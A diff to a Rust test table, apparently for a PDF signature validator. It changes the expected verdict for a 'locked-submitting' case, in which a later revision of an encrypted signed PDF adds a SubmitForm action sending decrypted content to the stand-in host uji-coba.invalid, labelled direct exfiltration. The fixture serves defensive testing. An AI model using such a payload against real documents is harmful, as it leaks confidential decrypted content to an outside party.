@@ -8,9 +8,6 @@ use crate::kit::Kit;
 use crate::paper::bytes::{find, last_number, replaced, rfind, spliced};
 use crate::paper::file::stream;
 
-/// What a page draws is no stream any more, which makes it TOTAL-FAILED; INDETERMINATE does not tell it apart, and lets
-/// nothing through.
-const REFUSED: Expected = Expected::not_passed();
 const CHANGED: Expected = failed!(HashFailure, "content-changed");
 
 /// A signed letter that is encrypted by AES-256.
@@ -99,7 +96,7 @@ pub(super) const ROWS: &[Row] = &[
     row(
         "locked-submitting",
         "A later revision sends what is decrypted elsewhere (direct exfiltration).",
-        REFUSED,
+        Expected::left_open(&["later-revision"]),
         |kit| {
             let action = b"<</S/SubmitForm/F<</FS/URL/F(https://uji-coba.invalid)>>/Flags 256>>";
             Ok(later(&letter(kit)?, 4, action, |entries| entries))
